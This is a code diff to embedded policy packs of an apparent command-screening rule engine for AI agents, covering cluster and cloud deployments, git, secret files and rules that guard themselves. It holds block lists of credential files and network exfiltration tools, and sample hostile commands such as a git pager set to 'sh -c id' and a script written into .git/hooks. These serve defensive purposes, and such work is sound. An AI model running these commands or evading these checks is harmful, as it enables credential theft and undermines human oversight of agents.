@@ -381,7 +381,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/deployment.tract", package: "tractatus.deployment",
-      sha256: "dd71666050f85635b4f29b8be5e658c81f0b7877d7152779f1b7dd52d6dbf40a",
+      sha256: "5b771af2579cce012f6aee370cc7f03f4616976b2f4528121b33de26cbbecb93",
       #"""
       /// Deployments: the target's directory structure is kept, and production is a person's decision.
       policy tractatus.deployment "Deployments are deliberate" version "1.0.0"
@@ -408,18 +408,24 @@ enum EmbeddedPacks {
           example allow { command: "rsync -av src/ backup/" } given { project: "/work/app", cwd: "/work/app" }
       }
 
+      /// What changes a cluster, unless it is only tried.
+      let cluster_changes = ["kubectl apply", "kubectl create", "kubectl scale", "kubectl patch", "kubectl edit", "kubectl set", "kubectl rollout restart", "kubectl rollout undo", "oc apply", "helm upgrade", "helm install", "helmfile apply", "helmfile sync", "argocd app sync", "flux reconcile"]
+
       sealed rule cluster "Clusters are changed by people" {
           on bash
           ask when command runs ["kubectl", "oc", "k", "kubecolor"] with ["--context", "--namespace", "-n", "--kubeconfig", "--cluster"] and command matches /(?:--context|--namespace|-n|--cluster)[=\s]+["']?\S*(?:prod|live)/i
               because "This reaches production."
-          ask when command runs ["kubectl delete", "kubectl drain", "kubectl cordon", "kubectl replace", "kubectl taint", "oc delete", "k delete", "helm uninstall", "helm delete", "helm rollback", "eksctl delete", "kops delete", "argocd app delete", "kubeadm reset", "minikube delete", "kind delete"]
+          ask when command runs ["kubectl delete", "kubectl drain", "kubectl cordon", "kubectl replace", "kubectl taint", "oc delete", "k delete", "helm uninstall", "helm delete", "helm rollback", "eksctl delete", "kops delete", "argocd app delete", "kubeadm reset", "minikube delete", "kind delete"] without ["-h", "--help"]
               because "This takes down what runs."
-          ask when command runs ["kubectl apply", "kubectl create", "kubectl scale", "kubectl patch", "kubectl edit", "kubectl set", "kubectl rollout restart", "kubectl rollout undo", "oc apply", "helm upgrade", "helm install", "helmfile apply", "helmfile sync", "argocd app sync", "flux reconcile"] without ["--dry-run"]
+          ask when command runs cluster_changes without ["--dry-run", "--dry-run=", "-h", "--help"]
+              because "This changes what runs on a cluster."
+          ask when any c in command satisfies (c runs cluster_changes with "--dry-run=" and c executes not in ["client", "server"])
               because "This changes what runs on a cluster."
           offer "Show the change with `--dry-run=client` or `helm diff`."
           example ask   { command: "kubectl delete namespace shop" }
           example ask   { command: "helm upgrade shop ./chart" }
           example allow { command: "kubectl get pods && kubectl logs web-1 && helm template ./chart" }
+          example ask   { command: "kubectl apply --dry-run=none -f web.yaml" } given { project: "/work/app", cwd: "/work/app" }
           example allow { command: "kubectl apply --dry-run=client -f web.yaml" } given { project: "/work/app", cwd: "/work/app" }
       }
 
@@ -427,12 +433,11 @@ enum EmbeddedPacks {
           on bash
           deny when command runs ["terraform destroy", "tofu destroy", "terragrunt destroy", "pulumi destroy", "cdk destroy"]
               because "This destroys what runs."
-          deny when command runs ["terraform apply", "tofu apply", "terragrunt apply"] with ["-destroy"] and command matches /-destroy|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs ["terraform apply", "tofu apply", "terragrunt apply"] with ["-destroy"]
               because "This destroys what runs."
-          ask when command runs ["terraform apply", "tofu apply", "terragrunt apply", "terraform import", "terraform state rm", "terraform state mv", "terraform state push", "terraform taint", "terraform force-unlock", "tofu import", "pulumi up", "pulumi import", "cdk deploy", "cdktf deploy", "sam deploy", "serverless deploy", "sls deploy", "serverless remove", "sls remove", "packer build", "nomad job run", "nomad job stop", "puppet apply", "chef-client", "salt"]
+          ask when command runs ["terraform apply", "tofu apply", "terragrunt apply", "terraform import", "terraform state rm", "terraform state mv", "terraform state push", "terraform taint", "terraform force-unlock", "tofu import", "pulumi up", "pulumi import", "cdk deploy", "cdktf deploy", "sam deploy", "serverless deploy", "sls deploy", "serverless remove", "sls remove", "packer build", "nomad job run", "nomad job stop", "puppet apply", "chef-client", "salt"] without "-help"
               because "This changes what runs."
           ask when command runs ["aws", "gcloud", "az", "gsutil", "doctl", "hcloud", "oci", "ibmcloud", "s3cmd", "bq"] operand matches /^(?:delete|remove|rm$|rb$|terminate|destroy|purge|stop|put-|create-|update-|modify|attach|detach|revoke|authorize|deploy$|run-instances|reboot|reset|disable|set-iam-policy|add-iam-policy-binding|invoke)/
-                   and command matches /delete|remove|\brm\b|\brb\b|terminate|destroy|purge|stop|put-|create-|update-|modify|attach|detach|revoke|authorize|deploy|run-inst|reboot|reset|disable|iam-policy|invoke/
               because "This changes what runs in the cloud."
           example deny  { command: "terraform destroy -auto-approve" }
           example ask   { command: "terraform apply plan.out" }
@@ -442,9 +447,9 @@ enum EmbeddedPacks {
 
       sealed rule release "Releases are made by people" {
           on bash
-          ask when command runs ["npm publish", "pnpm publish", "yarn publish", "yarn npm publish", "bun publish", "cargo publish", "gem push", "twine upload", "poetry publish", "uv publish", "flit publish", "hatch publish", "mvn deploy", "gradle publish", "gradlew publish", "dotnet nuget push", "pod trunk push", "npm unpublish", "npm deprecate", "cargo yank", "gh release delete", "gh repo delete", "gh secret set", "goreleaser release", "docker push", "podman push", "vsce publish", "ovsx publish", "eas submit", "lerna publish", "changeset publish", "semantic-release", "flutter pub publish", "dart pub publish", "mix hex.publish", "cabal upload", "luarocks upload", "npm dist-tag"] without ["--dry-run", "-n", "--snapshot"]
+          ask when command runs ["npm publish", "pnpm publish", "yarn publish", "yarn npm publish", "bun publish", "cargo publish", "gem push", "twine upload", "poetry publish", "uv publish", "flit publish", "hatch publish", "mvn deploy", "gradle publish", "gradlew publish", "dotnet nuget push", "pod trunk push", "npm unpublish", "npm deprecate", "cargo yank", "gh release delete", "gh repo delete", "gh secret set", "goreleaser release", "docker push", "podman push", "vsce publish", "ovsx publish", "eas submit", "lerna publish", "changeset publish", "semantic-release", "flutter pub publish", "dart pub publish", "mix hex.publish", "cabal upload", "luarocks upload", "npm dist-tag"] without ["--dry-run", "--snapshot"]
               because "What is published cannot be taken back."
-          ask when command runs ["vercel", "netlify deploy", "fly deploy", "flyctl deploy", "heroku", "firebase deploy", "wrangler deploy", "wrangler publish", "railway up", "surge", "gh-pages", "cap", "kamal deploy", "mina deploy", "eb deploy", "gcloud app deploy", "amplify publish", "cf push", "render deploys", "supabase db push", "dokku"] with ["--prod", "--production", "--force"] and command matches /--["'\\]*fo|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["vercel", "netlify deploy", "fly deploy", "flyctl deploy", "heroku", "firebase deploy", "wrangler deploy", "wrangler publish", "railway up", "surge", "gh-pages", "cap", "kamal deploy", "mina deploy", "eb deploy", "gcloud app deploy", "amplify publish", "cf push", "render deploys", "supabase db push", "dokku"] with ["--prod", "--production", "--force"]
               because "This changes what customers use."
           ask when command runs ["netlify deploy", "fly deploy", "flyctl deploy", "fly apps destroy", "flyctl apps destroy", "heroku apps:destroy", "heroku pg:reset", "firebase deploy", "wrangler deploy", "wrangler publish", "railway up", "cap production", "kamal deploy", "eb deploy", "eb terminate", "cf push", "cf delete", "supabase db push", "vercel deploy", "vercel rm"]
               because "This changes what customers use."
@@ -462,7 +467,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/git.tract", package: "tractatus.git",
-      sha256: "1f29c49b2143c0e6159fadf30b1dd3bf546f2788cbed1ecdb4dba610224c6e62",
+      sha256: "79071df46c8b7cedffeb4440188f345f0e0af16b412a4887c3193e43944c0cc8",
       #"""
       /// History and repositories: what cannot be undone, and what makes git run other programs.
       policy tractatus.git "Repositories and their history" version "1.0.0"
@@ -495,17 +500,17 @@ enum EmbeddedPacks {
 
       sealed rule lost_work "Work that is not committed is not thrown away" {
           on bash
-          ask when command runs "git reset" with "--hard" and command matches /--["'\\]*ha|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git reset" with "--hard"
               because "This throws away what is not committed."
-          ask when command runs "git clean" with ["-f", "--force"] without ["-n", "--dry-run"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git clean" with ["-f", "--force"] without ["-n", "--dry-run"]
               because "This deletes files that git does not know."
-          ask when command runs ["git checkout", "git restore"] operand in [".", "*", ":/", ":/*"] and command matches /\s['"]?(?:\.\/?|\*|:\/\*?)['"]?\s*(?:$|[;&|)\n])/
+          ask when command runs ["git checkout", "git restore"] operand in [".", "*", ":/", ":/*"]
               because "This throws away every change that is not committed."
-          ask when command runs "git switch" with "--discard-changes" and command matches /--["'\\]*di|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git switch" with "--discard-changes"
               because "This throws away what is not committed."
           ask when command runs "git" with "--work-tree" without "--git-dir" and command matches /--["'\\]*wo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This makes git work on another folder."
-          ask when command runs "git checkout" with ["-f", "--force"] and command matches /--work-tree|--git-dir|checkout\s+(?:-f|--force)\s*(?:$|[;&|])/
+          ask when command runs "git checkout" with ["-f", "--force"]
               because "This throws away what is not committed."
           ask when command runs ["git stash drop", "git stash clear"]
               because "This throws away what was put aside."
@@ -513,17 +518,17 @@ enum EmbeddedPacks {
               because "This deletes a branch whose commits may be nowhere else."
           ask when command runs ["git reflog expire", "git reflog delete"]
               because "This removes the way back to lost commits."
-          ask when command runs "git gc" with "--prune" and command matches /--prune=(?:now|all|0)/
+          ask when command runs "git gc" with "--prune"
               because "This removes the way back to lost commits."
-          ask when command runs ["git update-ref", "git symbolic-ref"] with ["-d", "--delete"] and command matches /[^\w-]-[\w"'\\]*d|--["'\\]*de|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs ["git update-ref", "git symbolic-ref"] with ["-d", "--delete"]
               because "This deletes a reference."
-          ask when command runs "git worktree remove" with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git worktree remove" with ["-f", "--force"]
               because "This throws away what is not committed."
-          ask when command runs "git submodule deinit" with ["-f", "--force", "--all"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*al|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git submodule deinit" with ["-f", "--force", "--all"]
               because "This throws away what is not committed."
-          ask when command runs ["git rm"] with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs ["git rm"] with ["-f", "--force"]
               because "This deletes files with changes that are not committed."
-          ask when command runs "git rm" with "-r" without "--cached" operand in [".", "*"] and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git rm" with "-r" without "--cached" operand in [".", "*"]
               because "This deletes every file that git knows."
           offer "Commit or stash first."
           example ask   { command: "git reset --hard HEAD~3" }
@@ -535,33 +540,40 @@ enum EmbeddedPacks {
           example allow { command: "git restore --staged src/main.swift" }
       }
 
+      /// Hooks that the project keeps under version control, where reviewers see them.
+      let own_hooks = ["**/.githooks", ".githooks/*", ".husky/*", "hooks/*", "scripts/hooks/*", "scripts/git-hooks/*", "tools/hooks/*"]
+
+      /// Settings of `git -c`, as `name=value`, that name no program, address or file: an allow list, for
+      /// new settings that do appear with every release. (A value is one text, hence an expression.)
+      let harmless_setting = /^(?:(?:user|author|committer|color|column|advice|status|blame|rerere|i18n|versionsort|pull|rebase)\.[\w.-]+|commit\.(?:gpgsign|verbose|status|cleanup)|core\.(?:quotepath|autocrlf|eol|safecrlf|abbrev|ignorecase|filemode|symlinks|longpaths|whitespace|commentchar|compression|preloadindex|untrackedcache|precomposeunicode)|core\.(?:pager|editor)=(?:cat|less|more|delta|bat|true|:|vim?|nvim|nano|code|emacs)?(?:\s+-{1,2}[\w-]+)*$|diff\.(?:algorithm|renames|renamelimit|context|mnemonicprefix|noprefix|wserrorhighlight|colormoved|submodule|interhunkcontext|indentheuristic|wordregex)|merge\.(?:ff|conflictstyle|renamelimit|renames|stat|log|verbosity|autostash)|(?:log|format|grep|fetch|push|tag|gc|init|http|protocol|submodule|checkout|branch)\.(?:date|pretty|decorate|abbrevcommit|showsignature|follow|linenumber|patterntype|extendedregexp|prune|parallel|writecommitgraph|default|autosetupremote|followtags|sort|gpgsign|auto|defaultbranch|postbuffer|lowspeedlimit|lowspeedtime|version|maxrequests|recurse|defaultremote|autosetupmerge|autosetuprebase)(?:=|$))|^\/[\w.\/-]*\/git$/i
+
       sealed rule git_programs "Git runs no program that an option names" {
           on bash
           ask when command runs "git" with ["--exec-path", "--config-env"] and command matches /--["'\\]*co|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This makes git run other programs."
-          deny when command runs "git clean" with "--work-tree" and command matches /--["'\\]*wo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          deny when command runs "git clean" with "--work-tree"
               because "This deletes files outside the project."
-          ask when command runs ["git", "gh"] with "-c" and command matches /(?:-c|-c\s+|-c\s*["'])\s*["']?(?:alias\.|core\.(?:pager|editor)=["']?\S*(?:[\/!$;|&]|\s+-|\brm\b|\bsh\b)|core\.(?:pager|editor)=["'][^"']*\s|["']core\.(?:pager|editor)=[^"']*\s|core\.(?:sshcommand|hookspath|fsmonitor|gitproxy|askpass|alternaterefscommand|worktree)|diff\.\S*(?:external|textconv|command)|difftool\.|mergetool\.|merge\.\S*driver|filter\.|credential\.|sequence\.editor|gpg\.\S*program|protocol\.|remote\.\S*(?:uploadpack|receivepack|proxy|vcs)|uploadpack\.|receive\.|http\.(?:proxy|sslverify|extraheader)|url\.|include\.|includeif\.|init\.templatedir|interactive\.difffilter|browser\.|man\.|web\.|sendemail\.|tar\.|trailer\.|ssh\.variant|safe\.)/i
+          ask when any c in command satisfies (c runs "git" with "-c" and c executes not matches harmless_setting)
               because "This setting makes git run another program, or trust what it should not."
           ask when command runs ["git fetch", "git pull", "git clone", "git ls-remote", "git push", "git archive", "git fetch-pack", "git send-pack"] with ["--upload-pack", "--receive-pack", "--exec"] and command matches /--["'\\]*ex|--["'\\]*re|--["'\\]*up|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This option makes git run another program."
-          ask when command runs ["git clone", "git fetch", "git pull", "git remote add", "git submodule add", "git ls-remote"] operand matches /^["']?(?:ext|fd)::/ and command matches /(?:ext|fd)::/
+          ask when command runs ["git clone", "git fetch", "git pull", "git remote add", "git submodule add", "git ls-remote"] operand matches /^["']?(?:ext|fd)::/
               because "This address makes git run another program."
           ask when command runs "git config" without ["--get", "--get-all", "--list", "-l", "--unset", "--get-regexp", "--show-origin"] operand matches /^(?:alias\.|core\.(?:pager|editor|sshcommand|hookspath|fsmonitor|gitproxy|askpass|worktree)$|diff\..*(?:external|textconv|command)|difftool\..*cmd|mergetool\..*cmd|merge\..*driver|filter\.|credential\.|sequence\.editor|gpg\..*program|protocol\.|remote\..*(?:uploadpack|receivepack|proxy|vcs)|uploadpack\.|http\.(?:proxy|sslverify|extraheader)|url\.|include\.|includeif\.|init\.templatedir|interactive\.difffilter|sendemail\.|safe\.directory)/i
               because "This setting makes git run another program, or trust what it should not."
-          ask when command runs "git config" with ["--system", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ed|--["'\\]*sy|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git config" with ["--system", "-e", "--edit"]
               because "This changes git's settings for everyone."
-          ask when command runs "git grep" with ["-O", "--open-files-in-pager"] and command matches /[^\w-]-[\w"'\\]*O|--["'\\]*op|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git grep" with ["-O", "--open-files-in-pager"]
               because "This option makes git run another program."
           ask when command runs ["git instaweb", "git daemon", "git send-email", "git shell"]
               because "This makes git run other programs, or serve the repository."
-          ask when command runs "git difftool" with ["-x", "--extcmd"] and command matches /[^\w-]-[\w"'\\]*x|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs "git difftool" with ["-x", "--extcmd"]
               because "This makes git run another program."
           ask when command runs ["git diff", "git log", "git show"] with ["--ext-diff"] and command matches /--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This makes git run another program."
-          deny when any c in command satisfies (c writes within [".git/hooks", ".git/config", ".git/objects", ".git/refs", ".git/HEAD"] and not c runs ["git", "chmod", "chown", "pre-commit", "husky", "lefthook", "gh"]) and command matches /\.git|\.g[?*\[]/
+          deny when any c in command satisfies (c writes within [".git/hooks", ".git/config", ".git/objects", ".git/refs", ".git/HEAD"] and not c runs ["git", "chmod", "pre-commit", "husky", "lefthook", "gh"] and not (c runs ["cp", "install", "ln"] and c only reads like own_hooks)) and command matches /\.git|\.g[?*\[]/
               because "This changes the repository behind git's back."
-          deny when command writes like ["**/.gitconfig", "**/.config/git/**", "**/.git/hooks/**", "**/.git/config"] and command matches /\.git|gitconfig|config\/git|\.g[?*\[]/
+          deny when any c in command satisfies (c writes like ["**/.gitconfig", "**/.config/git/**", "**/.git/hooks/**", "**/.git/config"] and not c runs "chmod" and not (c runs ["cp", "install", "ln"] and c only reads like own_hooks)) and command matches /\.git|gitconfig|config\/git|\.g[?*\[]/
               because "This changes what git runs."
           example ask   { command: "git -c core.pager='sh -c id' log" }
           example ask   { command: "git -c alias.x='!id' x" }
@@ -569,6 +581,8 @@ enum EmbeddedPacks {
           example ask   { command: "git config --global core.hooksPath /tmp/hooks" }
           example deny  { command: "echo 'id' > .git/hooks/post-commit" } given { project: "/work/app", cwd: "/work/app" }
           example allow { command: "git -c user.name=ci commit -m x && git config user.email a@b.example" }
+          example allow { command: "cp scripts/hooks/pre-push .git/hooks/ && chmod +x .git/hooks/pre-push" } given { project: "/work/app", cwd: "/work/app" }
+          example deny  { command: "cp /tmp/hooks/pre-push .git/hooks/" } given { project: "/work/app", cwd: "/work/app" }
           example allow { command: "git --no-pager log --oneline -5" }
       }
 
@@ -591,7 +605,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/secrets.tract", package: "tractatus.secrets",
-      sha256: "2eff257662931ed50173a74570ecd0c4c3647f6e01d908981120a4936f397c7b",
+      sha256: "5d8e1da25cdee876fc43dfd03e4bc6552738603f9d40dfbfe3f766f4823d32fe",
       #"""
       /// Files that hold secrets: reading them, and sending them anywhere.
       policy tractatus.secrets "Secrets stay where they are" version "1.0.0"
@@ -600,9 +614,11 @@ enum EmbeddedPacks {
       use tractatus.shell
 
       /// Keys and passwords that no development work reads.
-      let private_files = ["**/.ssh/id_rsa", "**/.ssh/id_dsa", "**/.ssh/id_ecdsa", "**/.ssh/id_ecdsa_sk", "**/.ssh/id_ed25519", "**/.ssh/id_ed25519_sk", "**/.ssh/identity", "**/.ssh/*.pem", "**/.ssh/*.key", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "**/.aws/credentials", "**/.aws/config", "**/.kube/config", "**/.docker/config.json", ".netrc", "_netrc", ".pgpass", ".my.cnf", "~/.npmrc", ".pypirc", ".git-credentials", "**/.config/gh/hosts.yml", "**/.config/hub", "/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_*_key", "/proc/*/environ", "/proc/*/mem", "/proc/kcore", "*.kdbx", "*.ppk", "*.jks", "*.keystore", "*.p12", "*.pfx", "wallet.dat", ".vault-token", "**/.terraform.d/credentials.tfrc.json", "**/Cookies", "**/Login Data", "**/logins.json", "**/key4.db", ".bash_history", ".zsh_history", ".psql_history", ".mysql_history", ".python_history", ".node_repl_history", "fish_history"]
+      let private_files = ["**/.ssh/id_rsa", "**/.ssh/id_dsa", "**/.ssh/id_ecdsa", "**/.ssh/id_ecdsa_sk", "**/.ssh/id_ed25519", "**/.ssh/id_ed25519_sk", "**/.ssh/identity", "**/.ssh/*.pem", "**/.ssh/*.key", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "**/.aws/credentials", "**/.aws/config", "**/.kube/config", "**/.docker/config.json", ".netrc", "_netrc", ".pgpass", ".my.cnf", "~/.npmrc", ".pypirc", ".git-credentials", "**/.config/gh/hosts.yml", "**/.config/hub", "/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_*_key", "/proc/*/environ", "/proc/*/mem", "/proc/kcore", "*.kdbx", "*.ppk", "*.jks", "*.keystore", "*.p12", "*.pfx", "wallet.dat", ".vault-token", "**/.terraform.d/credentials.tfrc.json", "**/tractatus/cache.key", "**/Cookies", "**/Login Data", "**/logins.json", "**/key4.db", ".bash_history", ".zsh_history", ".psql_history", ".mysql_history", ".python_history", ".node_repl_history", "fish_history"]
       /// Settings with secrets in them, which people do work with.
-      let setting_files = [".env", ".env ", ".env.", ".env.local", ".env.*.local", ".env.prod", ".env.production", ".env.dev", ".env.development", ".env.staging", ".env.live", ".envrc", "secrets.yml", "secrets.yaml", "secrets.json", "secrets.toml", "secrets/*", "config/secrets/*", "credentials.json", "credentials.yml", "service-account*.json", "serviceAccount*.json", "*.pem", "*.key", "master.key", "*.tfstate", "*.tfstate.backup", "terraform.tfvars", "prod.tfvars", "production.tfvars", "kubeconfig", ".htpasswd", ".dockercfg", "wp-config.php"]
+      let setting_files = [".env", ".env ", ".env.", ".env.local", ".env.*.local", ".env.prod", ".env.production", ".env.dev", ".env.development", ".env.staging", ".env.live", ".envrc", "secrets.yml", "secrets.yaml", "secrets.json", "secrets.toml", "secrets/*", "config/secrets/*", "credentials.json", "credentials.yml", "service-account*.json", "serviceAccount*.json", "*.key", "master.key", "*.tfstate", "*.tfstate.backup", "terraform.tfvars", "prod.tfvars", "production.tfvars", "kubeconfig", ".htpasswd", ".dockercfg", "wp-config.php"]
+      /// Files in PEM that hold certificates or public keys, by their names, and files that are not in PEM.
+      let without_key = /(?:^|\/)[^\/]*(?:cert|chain|bundle|public|\bpub\b|\bca\b|\broot\b)[^\/]*\.pem$|(?:[^m]|[^e]m|[^p]em|[^.]pem)$/i
       /// Folders of keys and passwords.
       let private_places = ["~/.ssh", "~/.gnupg", "~/.aws", "~/.kube", "~/.config/gcloud", "~/.config/gh", "~/.azure", "~/.docker", "~/.password-store", "~/Library/Keychains", "/etc/ssl/private", "/etc/sudoers.d"]
 
@@ -615,6 +631,7 @@ enum EmbeddedPacks {
           deny when command reads like private_files ignoring case and spells_a_secret because "This reads keys or passwords."
           deny when command reads within ["~/.gnupg", "~/.config/gcloud", "~/.azure", "~/.password-store", "~/Library/Keychains", "~/.config/op"] and spells_a_secret because "This reads keys or passwords."
           ask when command reads like setting_files ignoring case and spells_a_secret because "This reads a file that usually holds secrets."
+          ask when any c in command satisfies (c reads like "*.pem" ignoring case and not c runs "openssl x509" and not c only reads matches without_key) and spells_a_secret because "This reads a file that may hold a key."
           ask when any c in command satisfies (c runs ["cp", "mv", "tar", "gtar", "bsdtar", "zip", "rsync", "scp", "ln", "grep", "rg", "egrep", "7z"] and c reads within private_places) and spells_a_secret because "This reads folders of keys and passwords."
           ask when command runs ["find", "fd"] with ["-exec", "-execdir", "-x", "-X", "--exec"] and command matches /\bf(?:in)?d\b.*(?:\.env\b|id_rsa|id_ed|\.pem|\.key\b|\.ssh|\.aws|shadow|credential|secret).*-(?:exec|x)/i because "This reads files that usually hold secrets."
           ask when command runs ["xargs", "parallel"] and command matches /(?:\.env\b|id_rsa|id_ed25519|\*\.pem|\.ssh\/|\.aws\/|\/etc\/shadow|credentials).*\|.*xargs\s.*\b(?:cat|head|tail|less|base64|curl|cp|strings|xxd)\b/ because "This reads files that usually hold secrets."
@@ -632,12 +649,12 @@ enum EmbeddedPacks {
 
       sealed rule secret_sent "Secrets leave for nowhere" {
           on bash
-          deny when command sends like private_files ignoring case and spells_a_secret because "This sends keys or passwords to another machine."
-          deny when command sends like setting_files ignoring case and spells_a_secret because "This sends a file that holds secrets to another machine."
-          deny when command sends within private_places and spells_a_secret because "This sends folders of keys and passwords to another machine."
-          deny when command sends within ["/etc", "/proc", "/root", "/var/lib"] and spells_a_secret because "This sends files of the machine."
+          deny when command sends like private_files ignoring case because "This sends keys or passwords to another machine."
+          deny when command sends like setting_files ignoring case because "This sends a file that holds secrets to another machine."
+          deny when command sends like "*.pem" ignoring case and command sends not matches without_key because "This sends a file that may hold a key."
+          deny when command sends within private_places because "This sends folders of keys and passwords to another machine."
+          deny when command sends within ["/etc", "/proc", "/root", "/var/lib"] because "This sends files of the machine."
           deny when command pipes ["env", "printenv", "export", "declare", "set", "compgen", "history"] into ["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "mail", "mailx", "sendmail", "http", "https", "xh", "openssl", "ftp", "tftp", "dig", "nslookup", "host", "ping", "websocat", "aws", "gsutil"]
-                   and command matches /env|export|declare|\bset\b|compgen|history/
               because "This sends the environment, which holds secrets, to another machine."
           ask when command runs "curl" with "--data-urlencode" and command matches /urlencode[\s=]+["']?\w+@/ because "This sends a file to another machine."
           ask when command sends outside [".", "/tmp", "/var/tmp", "/private/tmp", "/dev", "~/Downloads"] and command matches /[\s=@<"']["']?(?:\/(?:[^t]|t[^m])|~|\.\.\/)|\$HOME/ because "This sends a file from outside the project to another machine."
@@ -656,8 +673,8 @@ enum EmbeddedPacks {
           ask when command runs ["jq", "gojq", "jaq", "yq"] operand matches /\$ENV|(?:^|[^\w.])env\b|\$__prog_args/ and command matches /\benv\b|ENV/ because "The environment holds secrets."
           ask when command runs ["ps"] operand matches /^[a-zA-Z]*e[a-zA-Z]*w|eww/ and command matches /\bps\s+\w*e\w*w/ because "This shows the environment of every process."
           ask when command runs ["kubectl get secret", "kubectl get secrets", "kubectl describe secret", "aws configure", "aws secretsmanager", "aws ssm", "gcloud auth print-access-token", "gcloud auth print-identity-token", "gcloud secrets", "az account get-access-token", "az keyvault", "vault kv", "vault read", "vault token", "op read", "op item", "pass show", "security find-generic-password", "security find-internet-password", "security dump-keychain", "gh auth token", "npm token list", "git credential fill", "doppler secrets", "fly secrets", "supabase secrets", "vercel env pull", "ansible-vault view", "ansible-vault decrypt", "sops decrypt", "secret-tool lookup", "bw get", "lpass show", "chezmoi secret"] because "This prints secrets."
-          ask when command runs ["gpg", "gpg2"] with ["--export-secret-keys", "--export-secret-subkeys"] and command matches /--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This prints keys."
-          ask when command runs ["kubectl", "oc"] operand matches /^secrets?(\/|$)/ and command matches /secret/ because "This prints secrets."
+          ask when command runs ["gpg", "gpg2"] with ["--export-secret-keys", "--export-secret-subkeys"] because "This prints keys."
+          ask when command runs ["kubectl", "oc"] operand matches /^secrets?(\/|$)/ because "This prints secrets."
           example ask   { command: "env" }
           example ask   { command: "printenv | base64" }
           example allow { command: "env NODE_ENV=test npm test" }
@@ -668,8 +685,11 @@ enum EmbeddedPacks {
           on read_file, write_file, edit_file
           deny when path like private_files ignoring case because "{path} holds keys or passwords."
           ask when path like setting_files ignoring case because "{path} usually holds secrets."
+          ask when path like "*.pem" ignoring case and not path matches without_key because "{path} may hold a key."
           example deny  read_file { path: "/home/me/.ssh/id_rsa" }
           example ask   read_file { path: "/srv/app/.env" }
+          example ask   read_file { path: "/srv/app/tls/server.pem" }
+          example allow read_file { path: "/srv/app/tls/ca-bundle.pem" }
           example allow read_file { path: "/srv/app/.env.example" }
       }
 
@@ -692,7 +712,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/self_protection.tract", package: "tractatus.self_protection",
-      sha256: "f114fc7e5ffce41156e3ef608820dd3a6367516351e642f520c3782d4ef92b21",
+      sha256: "0ec33ec1207237065e61eaa32e9eeda21665ef59597ad5dc5037d2d21c33aa56",
       #"""
       /// What governs an agent is not the agent's to change: rules, hook settings, state and logs.
       policy tractatus.self_protection "The rules protect themselves" version "1.0.0"
@@ -728,13 +748,13 @@ enum EmbeddedPacks {
               because "This changes the rules, their settings or their records."
           ask when command runs ["tar", "gtar", "bsdtar"] with ["-x", "--extract"] and command matches /(?:-C|--directory)[=\s]*(?:\.\/)?(?:rules|\.claude)\b/
               because "This unpacks over the rules."
-          ask when any c in command satisfies (c runs ["python", "python3", "python2", "node", "bun", "deno", "perl", "ruby", "php", "awk", "gawk", "sed", "vim", "vi", "ex", "nvim", "lua"] with ["-e", "-c", "-i", "-p", "-E", "-r"] and c executes matches /\.tract\b|\.claude\b|\.tractatus\b/) and spells_the_rules
+          ask when any c in command satisfies (c runs ["python", "python3", "python2", "node", "bun", "deno", "perl", "ruby", "php", "awk", "gawk", "sed", "vim", "vi", "ex", "nvim", "lua"] and c executes matches /\.tract\b|\.claude\b|\.tractatus\b/) and spells_the_rules
               because "This code touches the rules, their settings or their records."
           ask when command runs ["find", "gfind", "fd", "xargs", "parallel"] and command matches /(?:\.tract\b|\brules\b|\.claude\b).*(?:-exec\w*|-ok\w*|xargs|parallel|-x)\s[^;&]*\b(?:rm|mv|sed\s+-\w*i|chmod|chown|truncate|shred|cp|tee|perl\s+-\w*i|unlink|ln)\b|(?:\.tract\b|\brules\b|\.claude\b).*-delete/
               because "This changes the rules, their settings or their records."
           deny when command runs ["tractatus uninstall", "tractatus hook uninstall", "tractatus hooks uninstall", "tractatus hook remove", "tractatus hook disable"]
               because "This takes the rules away."
